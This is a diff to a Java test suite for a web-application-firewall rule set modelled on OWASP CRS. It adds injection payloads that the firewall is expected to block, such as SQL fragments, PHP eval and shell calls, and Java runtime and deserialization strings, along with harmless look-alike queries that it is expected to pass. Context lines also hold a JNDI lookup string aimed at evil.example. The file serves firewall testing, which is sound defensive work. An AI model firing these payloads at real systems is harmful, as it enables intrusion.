@@ -94,6 +94,10 @@ class AttacksPolicyTest {
             933120 => $_SERVER['HTTP_HOST']
             933150 => eval(base64_decode('ZWNobyAx'))
             933160 => system('id')
+            933161 => curl_iNit()
+            933161 => eval\r($foo)
+            933161 => escapeshellcmd('x')
+            933161 => ftp_connect("x")
             933170 => O:8:"stdClass":1:{s:1:"a";s:1:"b";}
             944100 => java.lang.Runtime.getRuntime().exec('id')
             944150 => ${jndi:ldap://evil.example/a}
@@ -154,9 +158,70 @@ class AttacksPolicyTest {
             runtime of the movie
             getproperty docs for beginners
             struts and frets
+            file a complaint (online)
+            eval uation of chr
             """)
     void benignLookAlikesPassAtParanoia1(String value) {
         AttacksPolicy policy = pl(1);
+        TestPolicyInput request = query("/search", "q", value);
+
+        assertThat(policy.evaluate(request)).as(matchedRules(policy, request)).isSameAs(PolicyDecision.CONTINUE);
+    }
+
+    /** Payloads from CRS 3.3.4's tests of its paranoia-2 rules: denied at PL2 by the named rule, which PL1 never runs. */
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiterString = " => ", quoteCharacter = 0, textBlock = """
+            942410 => ABS(
+            942410 => cast(
+            942410 => COALESCE(
+            942410 => 1 and ascii(substr(user,1,1))
+            942211 => var= @.= ( SELECT
+            942210 => AND 2771=1709)
+            942210 => or 120=121=
+            942210 => ; DROP
+            942210 => x set @a=1
+            942211 => 1 group by password,(select 1)
+            942211 => @x=(select 1)
+            942380 => ORder by
+            942381 => SELECT (CASE
+            942380 => exists (select 1)
+            942380 => 1 having 1=1
+            942380 => execute xp_x
+            942381 => from `db_miwf`.`sys_refindex` limit
+            942381 => create table x (a int)
+            944240 => getproperty
+            944240 => xmldecoder
+            944250 => java.evil.runtime
+            944250 => java.lang.processbuilder
+            """)
+    void paranoia2SqlAndJavaRulesDenyAtParanoia2Only(String rule, String payload) {
+        TestPolicyInput request = query("/search", "q", payload);
+
+        assertThat(pl(2).evaluate(request)).isSameAs(DENIED);
+        assertThat(matchedRules(pl(2), request)).contains(rule);
+        assertThat(matchedRules(pl(1), request)).doesNotContain(rule);
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
+            abstract art
+            cast iron pan
+            the count of monte cristo
+            in stock
+            if you like it
+            executed yesterday
+            ordered by phone
+            from paris to rome
+            selection of cases
+            free from limits
+            java coffee beans
+            javascript runtime
+            property of the owner
+            /Business and
+            4AND4+
+            """)
+    void benignLookAlikesPassAtParanoia2(String value) {
+        AttacksPolicy policy = pl(2);
         TestPolicyInput request = query("/search", "q", value);
 
         assertThat(policy.evaluate(request)).as(matchedRules(policy, request)).isSameAs(PolicyDecision.CONTINUE);
